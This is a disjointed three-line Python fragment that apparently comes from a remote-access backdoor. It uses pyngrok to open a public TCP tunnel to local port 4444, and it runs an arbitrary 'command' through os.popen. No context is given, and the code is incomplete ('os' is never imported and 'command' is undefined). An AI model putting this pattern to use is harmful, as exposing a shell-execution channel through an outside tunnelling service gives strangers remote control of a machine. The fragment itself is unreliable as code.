from pyngrok import ngrok
ngrok.connect(4444, "tcp")
os.popen(command).read()
